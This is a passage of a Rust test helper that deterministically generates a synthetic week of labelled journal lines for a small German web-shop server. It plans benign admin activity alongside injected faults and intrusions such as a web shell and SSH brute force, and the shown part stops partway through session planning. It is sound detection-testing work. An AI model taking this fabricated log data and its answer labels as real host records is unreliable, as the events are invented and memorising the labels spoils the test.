//! A synthetic, deterministic week of journal lines from one Linux host: `web2`, the web shop and
//! database server of a small company (Debian 12: nginx in front of php8.2-fpm, PostgreSQL 15
//! logging to syslog, redis, a shop application logging through monolog's syslog handler, cron,
//! certbot, UFW, developers and a CI deploy user logging in over ssh on port 2222, admins using
//! sudo), with labelled faults and intrusions injected after the first day.
//!
//! Std only, no crates; include it with `#[path = "common/web_week.rs"] mod web_week;`.
//!
//! * [`generate`] returns the whole week, sorted by time; the same seed gives the same lines, and
//!   different seeds change the details (users, addresses, ports, timings, which day each fault
//!   happens) while the structure stays the same.
//! * Normal lines have `label == None`, including new but benign things that appear mid-week and
//!   then recur (a new developer's account and logins, a new hourly systemd timer, two deploys
//!   with their reloads and new release directories, an unattended upgrade of PostgreSQL and PHP
//!   with the restarts it brings) and ordinary lines around a fault whose text also occurs in
//!   normal operation (unit restarts, checkpoints, connection and session lines).
//! * Genuinely abnormal lines carry one of [`KINDS`]: a database crash and recovery (`db-down`),
//!   OOM kills of a postgres backend on at least three days (`oom`), I/O errors on the backup
//!   volume (`disk`), a web shell running as www-data (`webshell`), SSH password guessing from
//!   one address (`bruteforce`), a password login as root from an unknown address
//!   (`root-login`), a failing certificate renewal (`cert-expired`), an nginx upstream burst
//!   (`upstream`), segfaulting php-fpm children (`segfault`) and a full /var (`disk-full`).
//!
//! Local time on the host is UTC (a German shop in March: CET is UTC+1).
#![allow(dead_code)]

use std::cell::Cell;
use std::collections::BTreeMap;
use std::fmt::Write as _;

/// 2026-03-09T00:00:00Z, a Monday: the first microsecond of the week.
pub const START_SEC: u64 = 1_773_014_400;
/// `_HOSTNAME` of every line.
pub const HOSTNAME: &str = "web2";
/// Every label [`generate`] uses.
pub const KINDS: [&str; 10] = [
    "db-down",
    "oom",
    "disk",
    "webshell",
    "bruteforce",
    "root-login",
    "cert-expired",
    "upstream",
    "segfault",
    "disk-full",
];

const SEC: u64 = 1_000_000;
const MS: u64 = 1_000;
const MIN: u64 = 60 * SEC;
const HOUR: u64 = 60 * MIN;
const DAY: u64 = 24 * HOUR;
const NDAYS: u64 = 7;
const T0: u64 = START_SEC * SEC;
const T_END: u64 = T0 + NDAYS * DAY;
const PID_MAX: u64 = 4_194_304;
const DOMAIN: &str = "bergmann-tee.de";
const CRON_RUN: &str = "php /var/www/shop/bin/console cron:run";
const FPM_UPSTREAM: &str = "fastcgi://127.0.0.1:9000";
const SEP: &str = "- - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -";

/// One journal entry.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Line {
    /// Microseconds since the Unix epoch (`__REALTIME_TIMESTAMP`).
    pub usec: u64,
    /// `SYSLOG_IDENTIFIER`, as the program logs it.
    pub identifier: &'static str,
    /// `_PID`; `None` for kernel lines.
    pub pid: Option<u32>,
    /// `MESSAGE` (may hold newlines, as systemd-coredump's does).
    pub message: String,
    /// `None` for normal operation, otherwise the kind of fault or intrusion (one of [`KINDS`]).
    pub label: Option<&'static str>,
}

impl Line {
    /// `identifier[pid]: message` (or `identifier: message` without a pid).
    pub fn plain(&self) -> String {
        match self.pid {
            Some(pid) => format!("{}[{}]: {}", self.identifier, pid, self.message),
            None => format!("{}: {}", self.identifier, self.message),
        }
    }

    /// `journalctl -o short-iso`: `2026-03-10T09:17:03+0000 web2 ` before [`Line::plain`].
    pub fn short_iso(&self) -> String {
        let (y, mo, d, h, mi, s) = civil(self.usec / SEC);
        format!(
            "{y}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}+0000 {HOSTNAME} {}",
            self.plain()
        )
    }

    /// The day of the week the line falls on, 0 (Monday) to 6.
    pub fn day(&self) -> u64 {
        (self.usec / SEC - START_SEC) / 86_400
    }
}

/// (year, month, day, hour, minute, second) of a Unix time (UTC).
fn civil(secs: u64) -> (i64, u32, u32, u64, u64, u64) {
    let days = (secs / 86_400) as i64;
    let rem = secs % 86_400;
    // Howard Hinnant's days-to-civil.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let y = yoe + era * 400 + i64::from(m <= 2);
    (y, m, d, rem / 3600, rem % 3600 / 60, rem % 60)
}

/// `2026-03-10` of a time in microseconds.
fn date(t: u64) -> String {
    let (y, m, d, ..) = civil(t / SEC);
    format!("{y}-{m:02}-{d:02}")
}

/// PostgreSQL's `2026-03-10 14:01:55 UTC`.
fn pg_time(t: u64) -> String {
    let (_, _, _, h, mi, s) = civil(t / SEC);
    format!("{} {h:02}:{mi:02}:{s:02} UTC", date(t))
}

/// nginx's `2026/03/10 14:02:11`.
fn ngx_time(t: u64) -> String {
    let (y, m, d, h, mi, s) = civil(t / SEC);
    format!("{y}/{m:02}/{d:02} {h:02}:{mi:02}:{s:02}")
}

/// systemd's `format_timespan(.., USEC_PER_MSEC)`: `53ms`, `1.234s`, `2min 3.4s`, `1h 2min 3s`.
fn span(ms: u64) -> String {
    if ms < 1000 {
        return format!("{ms}ms");
    }
    let mut out = String::new();
    let (h, m, s) = (ms / 3_600_000, ms / 60_000 % 60, ms % 60_000);
    if h > 0 {
        let _ = write!(out, "{h}h ");
    }
    if m > 0 {
        let _ = write!(out, "{m}min ");
    }
    if s > 0 {
        let mut frac = format!("{:03}", s % 1000);
        while frac.ends_with('0') {
            frac.pop();
        }
        if frac.is_empty() {
            let _ = write!(out, "{}s", s / 1000);
        } else {
            let _ = write!(out, "{}.{frac}s", s / 1000);
        }
    }
    out.trim_end().to_owned()
}

/// splitmix64 (in a `Cell`, so drawing a number needs no `&mut`).
struct Rng(Cell<u64>);

impl Rng {
    fn next(&self) -> u64 {
        self.0.set(self.0.get().wrapping_add(0x9E37_79B9_7F4A_7C15));
        let mut z = self.0.get();
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&self, n: u64) -> u64 {
        if n == 0 {
            0
        } else {
            self.next() % n
        }
    }
    /// Uniform in `lo..=hi`.
    fn range(&self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    fn unit(&self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    fn chance(&self, p: f64) -> bool {
        self.unit() < p
    }
    fn pick<T: Copy>(&self, xs: &[T]) -> T {
        xs[self.below(xs.len() as u64) as usize]
    }
    /// An exponential variate with this mean.
    fn exp(&self, mean: f64) -> f64 {
        -mean * (1.0 - self.unit()).ln()
    }
    fn hex(&self, n: usize) -> String {
        (0..n)
            .map(|_| char::from_digit(self.below(16) as u32, 16).unwrap())
            .collect()
    }
    fn b64(&self, n: usize) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        (0..n).map(|_| A[self.below(64) as usize] as char).collect()
    }
}

/// Customer traffic by UTC hour (peaks in the German evening), 0 to 1.
fn web(t: u64) -> f64 {
    const W: [f64; 24] = [
        0.18, 0.12, 0.08, 0.06, 0.05, 0.07, 0.14, 0.28, 0.42, 0.5, 0.55, 0.58, 0.62, 0.6, 0.58,
        0.6, 0.66, 0.8, 0.95, 1.0, 0.92, 0.7, 0.45, 0.28,
    ];
    let w = W[((t - T0) % DAY / HOUR) as usize];
    if (t - T0) / DAY >= 5 {
        w * 0.85
    } else {
        w
    }
}

/// Office hours (07-17 UTC on weekdays), 0 to 1.
fn office(t: u64) -> f64 {
    let h = (t - T0) % DAY / HOUR;
    if (t - T0) / DAY >= 5 {
        return 0.03;
    }
    match h {
        7..=11 | 13..=16 => 1.0,
        12 => 0.5,
        6 | 17 | 18 => 0.25,
        _ => 0.02,
    }
}

fn day_start(d: u64) -> u64 {
    T0 + d * DAY
}

/// A long-running process whose pid changes on restarts: (from, pid), sorted.
#[derive(Clone, Default)]
struct Proc(Vec<(u64, u32)>);

impl Proc {
    fn at(&self, t: u64) -> u32 {
        self.since(t).1
    }
    fn since(&self, t: u64) -> (u64, u32) {
        let mut cur = self.0[0];
        for &c in &self.0 {
            if c.0 <= t {
                cur = c;
            }
        }
        cur
    }
    fn restart(&mut self, t: u64, pid: u32) {
        self.0.push((t, pid));
        self.0.sort_unstable();
    }
}

#[derive(Clone)]
struct User {
    name: &'static str,
    uid: u32,
    /// `ED25519 SHA256:...`; empty for password logins.
    key: String,
    /// Two leading octets of the home ISP's addresses.
    isp: &'static str,
    admin: bool,
}

#[derive(Clone)]
struct Session {
    user: usize,
    start: u64,
    end: u64,
    ip: String,
    tty: bool,
    /// (time, working directory, command, run as) run with sudo.
    sudo: Vec<(u64, String, String, &'static str)>,
    label: Option<&'static str>,
    /// An everyday login, dropped where it would overlap a planned one of the same user.
    routine: bool,
}

struct Gen {
    r: Rng,
    lines: Vec<Line>,
    pid_base: u64,
    pid_cum: Vec<f64>,
    srv_ip: String,
    office_ip: String,
    ci_ip: String,
    mac: String,
    machine_id: String,
    users: Vec<User>,
    sessions: Vec<Session>,
    postmaster: Proc,
    checkpointer: Proc,
    fpm: Proc,
    nginx: Proc,
    redis: u32,
    logind: u32,
    cron: u32,
    nm: u32,
    chrony: u32,
    rsyslog: u32,
    journald: u32,
    /// (from, release directory name).
    releases: Vec<(u64, String)>,
    /// When postgres does not accept connections.
    outages: Vec<(u64, u64)>,
    /// Persistent connections' backend pids (php-fpm children hold them).
    order_no: u64,
    // The plan.
    upgrade_t: u64,
    deploy_ts: Vec<u64>,
    new_dev_t: u64,
    new_timer_t: u64,
    cert_fail_day: u64,
    cert_fix_t: u64,
    oom_ts: Vec<u64>,
    db_down_t: u64,
    disk_t: u64,
    webshell_t: u64,
    brute_ts: Vec<u64>,
    root_t: u64,
    upstream_t: u64,
    segfault_t: u64,
    diskfull_t: u64,
    diskfull_fix_t: u64,
}

const DEVS: [&str; 12] = [
    "anna", "jonas", "lukas", "mia", "felix", "lena", "tobias", "sarah", "niklas", "julia",
    "david", "laura",
];
const ADMINS: [&str; 4] = ["kai", "sven", "maren", "thomas"];
const ISPS: [&str; 14] = [
    "84.157", "87.123", "91.64", "93.211", "95.90", "178.4", "79.200", "217.232", "188.108",
    "46.223", "92.75", "109.42", "89.14", "80.187",
];
/// First octets of the addresses that scan the internet.
const SCAN_NETS: [u64; 24] = [
    45, 61, 79, 89, 92, 103, 107, 112, 118, 121, 141, 146, 152, 159, 162, 167, 176, 183, 185, 193,
    194, 205, 218, 222,
];

impl Gen {
    fn new(seed: u64) -> Gen {
        let r = Rng(Cell::new(seed ^ 0x5e_ed0f_3eb2));
        for _ in 0..4 {
            r.next();
        }
        Gen {
            srv_ip: format!("203.0.113.{}", r.range(10, 250)),
            office_ip: format!(
                "212.{}.{}.{}",
                r.range(60, 99),
                r.range(0, 255),
                r.range(2, 250)
            ),
            ci_ip: format!("49.12.{}.{}", r.range(0, 255), r.range(2, 250)),
            mac: format!(
                "96:00:0{}:{}:{}:{}:d2:74:7f:6e:37:e3:08:00",
                r.range(1, 3),
                r.hex(2),
                r.hex(2),
                r.hex(2)
            ),
            machine_id: r.hex(32),
            r,
            lines: Vec::with_capacity(12_000),
            pid_base: 0,
            pid_cum: Vec::new(),
            users: Vec::new(),
            sessions: Vec::new(),
            postmaster: Proc::default(),
            checkpointer: Proc::default(),
            fpm: Proc::default(),
            nginx: Proc::default(),
            redis: 0,
            logind: 0,
            cron: 0,
            nm: 0,
            chrony: 0,
            rsyslog: 0,
            journald: 0,
            releases: Vec::new(),
            outages: Vec::new(),
            order_no: 0,
            upgrade_t: 0,
            deploy_ts: Vec::new(),
            new_dev_t: 0,
            new_timer_t: 0,
            cert_fail_day: 0,
            cert_fix_t: 0,
            oom_ts: Vec::new(),
            db_down_t: 0,
            disk_t: 0,
            webshell_t: 0,
            brute_ts: Vec::new(),
            root_t: 0,
            upstream_t: 0,
            segfault_t: 0,
            diskfull_t: 0,
            diskfull_fix_t: 0,
        }
    }

    fn push(
        &mut self,
        t: u64,
        identifier: &'static str,
        pid: Option<u32>,
        message: String,
        label: Option<&'static str>,
    ) {
        if (T0..T_END).contains(&t) {
            self.lines.push(Line {
                usec: t,
                identifier,
                pid,
                message,
                label,
            });
        }
    }
    fn sd(&mut self, t: u64, message: String, label: Option<&'static str>) {
        self.push(t, "systemd", Some(1), message, label);
    }
    fn kern(&mut self, t: u64, message: String, label: Option<&'static str>) {
        self.push(t, "kernel", None, message, label);
    }
    /// A postgres syslog line; `[#-k]` gets the process's sequence number once sorted.
    fn pg(&mut self, t: u64, pid: u32, k: u32, message: String, label: Option<&'static str>) {
        self.push(
            t,
            "postgres",
            Some(pid),
            format!("[#-{k}] {message}"),
            label,
        );
    }

    /// A fresh pid at time t: the pid counter advances with the host's activity and wraps at
    /// `pid_max`, back to 300.
    fn pid_at(&self, t: u64) -> u32 {
        let rel = t.saturating_sub(T0) as f64 / HOUR as f64;
        let h = (rel as usize).min(self.pid_cum.len() - 2);
        let f = (rel - h as f64).min(1.0);
        let n = self.pid_cum[h] + f * (self.pid_cum[h + 1] - self.pid_cum[h]);
        let raw = self.pid_base + n as u64 + self.r.below(7);
        (300 + (raw - 300) % (PID_MAX - 300)) as u32
    }

    fn in_outage(&self, t: u64) -> bool {
        self.outages.iter().any(|&(a, b)| (a..b).contains(&t))
    }

    fn release(&self, t: u64) -> String {
        let mut cur = self.releases[0].1.clone();
        for (from, r) in &self.releases {
            if *from <= t {
                cur = r.clone();
            }
        }
        cur
    }

    fn public_ip(&self) -> String {
        let a = self.r.pick(&SCAN_NETS);
        format!(
            "{a}.{}.{}.{}",
            self.r.range(0, 255),
            self.r.range(0, 255),
            self.r.range(1, 254)
        )
    }

    fn customer_ip(&self) -> String {
        let isp = self.r.pick(&ISPS);
        format!("{isp}.{}.{}", self.r.range(0, 255), self.r.range(1, 254))
    }

    fn uniform(&self, from: u64, to: u64) -> u64 {
        from + self.r.below(to - from)
    }

    fn at(&self, d: u64, h0: u64, h1: u64) -> u64 {
        let s = day_start(d);
        self.uniform(s + h0 * HOUR, s + h1 * HOUR)
    }

    /// Times of a Poisson process of `peak` events an hour, thinned by `w`.
    fn arrivals(&self, peak: f64, w: fn(u64) -> f64) -> Vec<u64> {
        let mut v = Vec::new();
        let mut t = T0 as f64;
        loop {
            t += self.r.exp(HOUR as f64 / peak);
            if t >= T_END as f64 {
                return v;
            }
            if self.r.unit() < w(t as u64) {
                v.push(t as u64);
            }
        }
    }

    /// A oneshot service run by a timer: Starting, Deactivated, Finished, Consumed.
    fn oneshot(&mut self, t: u64, unit: &str, desc: &str, dur_ms: u64, cpu_ms: u64) -> u64 {
        self.sd(t, format!("Starting {unit} - {desc}..."), None);
        let end = t + dur_ms * MS;
        self.sd(end, format!("{unit}: Deactivated successfully."), None);
        self.sd(end + 200, format!("Finished {unit} - {desc}."), None);
        self.consumed(end + 400, unit, cpu_ms, None);
        end
    }

    /// `unit: Consumed ... CPU time.`: systemd 252 logs it at info level only above 1 s of CPU.
    fn consumed(&mut self, t: u64, unit: &str, cpu_ms: u64, label: Option<&'static str>) {
        if cpu_ms >= 1000 {
            self.sd(
                t,
                format!("{unit}: Consumed {} CPU time.", span(cpu_ms)),
                label,
            );
        }
    }

    fn ms(&self, lo: u64, hi: u64) -> u64 {
        self.r.range(lo, hi) * MS
    }
}

/// The whole week, sorted by time; the same seed gives the same lines.
pub fn generate(seed: u64) -> Vec<Line> {
    let mut g = Gen::new(seed);
    plan(&mut g);
    timers(&mut g);
    certbot(&mut g);
    cron(&mut g);
    backup(&mut g);
    php_fpm(&mut g);
    postgres(&mut g);
    redis(&mut g);
    shop(&mut g);
    nginx(&mut g);
    firewall(&mut g);
    ssh_noise(&mut g);
    network(&mut g);
    misc(&mut g);
    upgrade(&mut g);
    deploys(&mut g);
    db_down(&mut g);
    oom(&mut g);
    disk(&mut g);
    webshell(&mut g);
    bruteforce(&mut g);
    upstream(&mut g);
    segfault(&mut g);
    disk_full(&mut g);
    sessions(&mut g);
    let mut lines = std::mem::take(&mut g.lines);
    lines.sort_by_key(|l| l.usec);
    number_postgres(&mut lines, &g);
    lines
}

/// Fills in postgres's syslog sequence numbers (`[12-1]`), counted per process.
fn number_postgres(lines: &mut [Line], g: &Gen) {
    let mut seq: BTreeMap<u32, u64> = BTreeMap::new();
    // The long-running processes have logged since boot.
    seq.insert(g.postmaster.0[0].1, 41);
    seq.insert(g.checkpointer.0[0].1, 2_817);
    for l in lines.iter_mut() {
        if l.identifier != "postgres" || !l.message.starts_with("[#-") {
            continue;
        }
        let pid = l.pid.unwrap_or(0);
        let first = l.message.starts_with("[#-1]");
        let n = seq.entry(pid).or_insert(0);
        if first {
            *n += 1;
        }
        l.message = l.message.replacen('#', &n.to_string(), 1);
    }
}

/// Users, pids, and when everything happens.
fn plan(g: &mut Gen) {
    // The pid counter: a few hundred to two thousand new processes an hour.
    let mut cum = vec![0.0];
    for h in 0..NDAYS * 24 {
        let rate = 500.0 + 1600.0 * web(T0 + h * HOUR) + 600.0 * office(T0 + h * HOUR);
        let last = *cum.last().unwrap();
        cum.push(last + rate * (0.9 + 0.2 * g.r.unit()));
    }
    let total = *cum.last().unwrap();
    // Up for weeks: the counter wraps at pid_max somewhere in the week.
    g.pid_base = PID_MAX - (total * (0.25 + 0.5 * g.r.unit())) as u64;
    g.pid_cum = cum;

    // Daemons started at boot.
    g.journald = g.r.range(280, 330) as u32;
    g.rsyslog = g.journald + 300 + g.r.range(0, 20) as u32;
    g.logind = g.rsyslog + g.r.range(1, 9) as u32;
    g.nm = g.logind + g.r.range(1, 9) as u32;
    g.cron = g.nm + g.r.range(1, 9) as u32;
    g.chrony = g.cron + g.r.range(3, 12) as u32;
    g.redis = g.chrony + g.r.range(5, 20) as u32;
    let fpm = g.redis + g.r.range(5, 20) as u32;
    let pm = fpm + g.r.range(30, 60) as u32;
    g.fpm = Proc(vec![(0, fpm)]);
    g.postmaster = Proc(vec![(0, pm)]);
    g.checkpointer = Proc(vec![(0, pm + 2)]);
    g.nginx = Proc(vec![(0, pm + g.r.range(12, 30) as u32)]);

    // People.
    let admin = g.r.pick(&ADMINS);
    let mut devs = DEVS.to_vec();
    for i in (1..devs.len()).rev() {
        let j = g.r.below(i as u64 + 1) as usize;
        devs.swap(i, j);
    }
    let key = |r: &Rng| format!("ED25519 SHA256:{}", r.b64(43));
    g.users = vec![
        User {
            name: admin,
            uid: 1000,
            key: key(&g.r),
            isp: g.r.pick(&ISPS),
            admin: true,
        },
        User {
            name: devs[0],
            uid: 1001,
            key: key(&g.r),
            isp: g.r.pick(&ISPS),
            admin: true,
        },
        User {
            name: devs[1],
            uid: 1002,
            key: format!("RSA SHA256:{}", g.r.b64(43)),
            isp: g.r.pick(&ISPS),
            admin: false,
        },
        User {
            name: "deploy",
            uid: 1003,
            key: key(&g.r),
            isp: "",
            admin: false,
        },
        User {
            name: devs[2],
            uid: 1004,
            key: key(&g.r),
            isp: g.r.pick(&ISPS),
            admin: false,
        },
        User {
            name: "root",
            uid: 0,
            key: String::new(),
            isp: "",
            admin: true,
        },
    ];

    // Benign changes.
    g.upgrade_t = g.at(g.r.range(2, 3), 6, 7);
    let first_deploy = g.r.range(1, 2);
    let second_deploy = g.r.range(3, 4);
    g.deploy_ts = vec![g.at(first_deploy, 9, 15), g.at(second_deploy, 9, 15)];
    g.releases = vec![(
        0,
        release_name(day_start(0) - g.r.range(3, 9) * DAY - 14 * HOUR),
    )];
    for i in 0..2 {
        let t = g.deploy_ts[i];
        g.releases.push((t + 40 * SEC, release_name(t)));
    }
    g.new_dev_t = g.at(g.r.range(2, 3), 8, 10);
    g.new_timer_t = g.at(g.r.range(2, 4), 10, 14);

    // Faults, each on a day from 1 (Tuesday) to 6.
    let mut days: Vec<u64> = (1..NDAYS).collect();
    let mut day = |g: &mut Gen| {
        if days.is_empty() {
            days = (1..NDAYS).collect();
        }
        let i = g.r.below(days.len() as u64) as usize;
        days.remove(i)
    };
    let mut oom_days: Vec<u64> = (1..NDAYS).collect();
    while oom_days.len() > 3 {
        let i = g.r.below(oom_days.len() as u64) as usize;
        oom_days.remove(i);
    }
    for d in oom_days {
        let t = g.at(d, 8, 22);
        g.oom_ts.push(t);
    }
    let d = day(g);
    g.db_down_t = g.at(d, 9, 16);
    let d = day(g);
    g.disk_t = day_start(d) + 2 * HOUR + 30 * MIN + g.ms(30_000, 200_000);
    let d = day(g);
    g.webshell_t = g.at(d, 17, 20);
    let d = day(g);
    g.root_t = g.at(d, 0, 5);
    let d = day(g);
    g.cert_fail_day = d;
    g.cert_fix_t = g.at(d, 20, 22);
    let d = day(g);
    g.upstream_t = day_start(d) + 17 * HOUR + g.ms(0, 3 * 3_600_000);
    let d = day(g);
    g.segfault_t = g.at(d, 8, 19);
    let d = day(g);
    g.diskfull_t = g.at(d, 3, 5);
    g.diskfull_fix_t = g.diskfull_t + g.ms(2 * 3_600_000, 4 * 3_600_000);
    let mut bd = vec![day(g), day(g)];
    bd.sort_unstable();
    for d in bd {
        let t = g.at(d, 0, 23);
        g.brute_ts.push(t);
    }

    // Restarts that change pids.
    let t = g.upgrade_t + 95 * SEC;
    let p = g.pid_at(t);
    g.postmaster.restart(t, p);
    g.checkpointer.restart(t, p + 2);
    let t = g.upgrade_t + 140 * SEC;
    let p = g.pid_at(t);
    g.fpm.restart(t, p);
    let dts = g.deploy_ts.clone();
    for t in dts {
        let t = t + 70 * SEC;
        let p = g.pid_at(t);
        g.nginx.restart(t, p);
    }
    let t = g.cert_fix_t + 3 * MIN;
    let p = g.pid_at(t);
    g.nginx.restart(t, p);
    let t = g.upstream_t + 14 * MIN;
    let p = g.pid_at(t);
    g.fpm.restart(t, p);
    // Crash recovery restarts the checkpointer; the outage lasts until ready.
    let ts = g.oom_ts.clone();
    for t in ts {
        let end = t + g.ms(2_000, 6_000);
        let p = g.pid_at(end);
        g.checkpointer.restart(end, p);
        g.outages.push((t, end + SEC));
    }
    let end = g.db_down_t + g.ms(70_000, 170_000);
    let p = g.pid_at(end);
    g.checkpointer.restart(end, p);
    g.outages.push((g.db_down_t, end + SEC));
    g.outages
        .push((g.upgrade_t + 90 * SEC, g.upgrade_t + 97 * SEC));

    plan_sessions(g);
}

/// `20260310103012`: a deploy's release directory.
fn release_name(t: u64) -> String {
    let (y, m, d, h, mi, s) = civil(t / SEC);
    format!("{y}{m:02}{d:02}{h:02}{mi:02}{s:02}")
}

const ADMIN_CMDS: [&str; 24] = [
    "/usr/bin/systemctl status nginx",
    "/usr/bin/systemctl status php8.2-fpm",
    "/usr/bin/journalctl -u nginx --since today",
    "/usr/bin/journalctl -p err -b",
    "/usr/bin/tail -n 200 /var/log/nginx/error.log",
    "/usr/bin/less /var/log/nginx/access.log",
    "/usr/bin/apt update",
    "/usr/bin/apt list --upgradable",
    "/usr/sbin/ufw status numbered",
    "/usr/bin/du -sh /srv/backup/pg",
    "/usr/bin/df -h",
    "/usr/sbin/nginx -t",
    "/usr/bin/vim /etc/nginx/sites-available/bergmann-tee.de",
    "/usr/bin/certbot certificates",
    "/usr/bin/redis-cli info memory",
    "/usr/bin/ls -la /var/www/shop/releases",
    "/usr/bin/cat /etc/php/8.2/fpm/pool.d/www.conf",
    "/usr/bin/htop",
    "/usr/bin/ss -tlnp",
    "/usr/bin/tail -f /var/log/postgresql/pg-backup.log",
    "/usr/bin/systemctl list-timers",
    "/usr/bin/zcat /var/log/nginx/access.log.2.gz",
    "/usr/bin/vim /etc/php/8.2/fpm/php.ini",
    "/usr/bin/psql shop",
];

/// The logins of the week: a list the sessions are then written from.
fn plan_sessions(g: &mut Gen) {
    let mut plan: Vec<Session> = Vec::new();
    for d in 0..NDAYS {
        let weekday = d < 5;
        for u in [0usize, 1, 2, 4] {
            if u == 4 && day_start(d) + DAY < g.new_dev_t {
                continue;
            }
            let n = if weekday {
                match u {
                    0 => g.r.pick(&[0, 1, 1, 1, 2]),
                    1 => g.r.pick(&[1, 1, 2, 2, 3]),
                    _ => g.r.pick(&[0, 1, 1, 2]),
                }
            } else if g.r.chance(0.15) {
                1
            } else {
                0
            };
            let from_office = weekday && u != 0 && g.r.chance(0.5);
            let ip = if from_office {
                g.office_ip.clone()
            } else {
                let isp = g.users[u].isp;
                format!("{isp}.{}.{}", g.r.range(0, 255), g.r.range(1, 254))
            };
            let mut t = if weekday {
                g.at(d, 6, 9)
            } else {
                g.at(d, 8, 18)
            };
            if u == 4 && d == (g.new_dev_t - T0) / DAY {
                t = g.new_dev_t + g.ms(20 * 60_000, 90 * 60_000);
            }
            for _ in 0..n {
                let dur = g.ms(3 * 60_000, 150 * 60_000);
                let start = t;
                let end = start + dur;
                let mut sudo = Vec::new();
                if g.users[u].admin {
                    for _ in 0..g.r.pick(&[0, 1, 1, 2, 3, 4]) {
                        let at = g.uniform(start + 20 * SEC, end - 10 * SEC);
                        let cmd = g.r.pick(&ADMIN_CMDS);
                        let name = g.users[u].name;
                        let (cmd, who) = if cmd.ends_with("psql shop") {
                            (cmd.to_owned(), "postgres")
                        } else {
                            (cmd.to_owned(), "root")
                        };
                        sudo.push((at, format!("/home/{name}"), cmd, who));
                    }
                }
                plan.push(Session {
                    user: u,
                    start,
                    end,
                    ip: ip.clone(),
                    tty: true,
                    sudo,
                    label: None,
                    routine: true,
                });
                t = end + g.ms(20 * 60_000, 180 * 60_000);
            }
        }
    }
    // The admin creates the new developer's account.
    let name = g.users[4].name;
    let t = g.new_dev_t;
    let ip = format!(
        "{}.{}.{}",
        g.users[0].isp,
        g.r.range(0, 255),
        g.r.range(1, 254)
    );
    plan.push(Session {
        user: 0,
        start: t - 2 * MIN,
        end: t + 9 * MIN,
        ip,
        tty: true,
        sudo: vec![
            (
                t,
                "/home/".to_owned() + g.users[0].name,
                format!("/usr/sbin/useradd -m -s /bin/bash -G developers {name}"),
                "root",
            ),
            (
                t + 40 * SEC,
                "/home/".to_owned() + g.users[0].name,
                format!("/usr/bin/vim /home/{name}/.ssh/authorized_keys"),
                "root",
            ),
        ],
        label: None,
        routine: false,
    });
    // The admin enables the new timer.
    let t = g.new_timer_t;
    let ip = format!(
        "{}.{}.{}",
        g.users[1].isp,
        g.r.range(0, 255),
        g.r.range(1, 254)
    );
    plan.push(Session {
        user: 1,
        start: t - 6 * MIN,
        end: t + 11 * MIN,
        ip,
        tty: true,
        sudo: vec![
            (
                t - 3 * MIN,
                "/var/www/shop".to_owned(),
                "/usr/bin/vim /etc/systemd/system/shop-feed-export.timer".to_owned(),
                "root",
            ),
            (
                t,
                "/var/www/shop".to_owned(),
                "/usr/bin/systemctl enable --now shop-feed-export.timer".to_owned(),
                "root",
            ),
        ],
        label: None,
        routine: false,
    });
    // Deploys from CI: three ssh commands, two reloads.
    for i in 0..2 {
        let t = g.deploy_ts[i];
        let rel = release_name(t);
        let ip = g.ci_ip.clone();
        plan.push(Session {
            user: 3,
            start: t,
            end: t + g.ms(2_000, 6_000),
            ip: ip.clone(),
            tty: false,
            sudo: vec![],
            label: None,
            routine: false,
        });
        plan.push(Session {
            user: 3,
            start: t + 25 * SEC,
            end: t + 38 * SEC,
            ip: ip.clone(),
            tty: false,
            sudo: vec![],
            label: None,
            routine: false,
        });
        let pwd = format!("/var/www/shop/releases/{rel}");
        plan.push(Session {
            user: 3,
            start: t + 60 * SEC,
            end: t + 75 * SEC,
            ip,
            tty: false,
            sudo: vec![
                (
                    t + 62 * SEC,
                    pwd.clone(),
                    "/usr/bin/systemctl reload php8.2-fpm".to_owned(),
                    "root",
                ),
                (
                    t + 70 * SEC,
                    pwd,
                    "/usr/bin/systemctl reload nginx".to_owned(),
                    "root",
                ),
            ],
            label: None,
            routine: false,
        });
    }
    // Admin sessions that answer faults (ordinary lines, unlabelled).
    let a = g.users[0].name;
    let home = format!("/home/{a}");
    let answer = |g: &mut Gen, t: u64, cmds: Vec<(u64, &str)>| {
        let ip = format!(
            "{}.{}.{}",
            g.users[0].isp,
            g.r.range(0, 255),
            g.r.range(1, 254)
        );
        let last = cmds.iter().map(|c| c.0).max().unwrap_or(t);
        let sudo = cmds
            .into_iter()
            .map(|(at, c)| (at, home.clone(), c.to_owned(), "root"))
            .collect();
        Session {
            user: 0,
            start: t,
            end: last + g.ms(60_000, 600_000),
            ip,
            tty: true,
            sudo,
            label: None,
            routine: false,
        }
    };
    let t = g.db_down_t;
    let s = answer(
        g,
        t - 4 * MIN,
        vec![
            (t - 2 * MIN, "/usr/bin/psql shop"),
            (t - 5 * SEC, "/usr/bin/kill -9 BACKEND"),
            (
                t + 5 * MIN,
                "/usr/bin/journalctl -u postgresql@15-main --since -10min",
            ),
        ],
    );
    plan.push(s);
    let t = g.diskfull_fix_t;
    let s = answer(
        g,
        t - 6 * MIN,
        vec![
            (t - 5 * MIN, "/usr/bin/df -h"),
            (
                t - 4 * MIN,
                "/usr/bin/du -xsh /var/log /var/lib /var/backups /var/www",
            ),
            (
                t - 2 * MIN,
                "/usr/bin/find /var/backups/pg -name *.dump -mtime +3 -delete",
            ),
            (t, "/usr/bin/journalctl --vacuum-size=500M"),
        ],
    );
    plan.push(s);
    let t = g.webshell_t + g.ms(150 * 60_000, 200 * 60_000);
    let s = answer(
        g,
        t - 3 * MIN,
        vec![
            (t - 2 * MIN, "/usr/bin/crontab -l -u www-data"),
            (t, "/usr/bin/crontab -r -u www-data"),
            (
                t + 2 * MIN,
                "/usr/bin/ls -la /var/www/shop/public/media/image",
            ),
        ],
    );
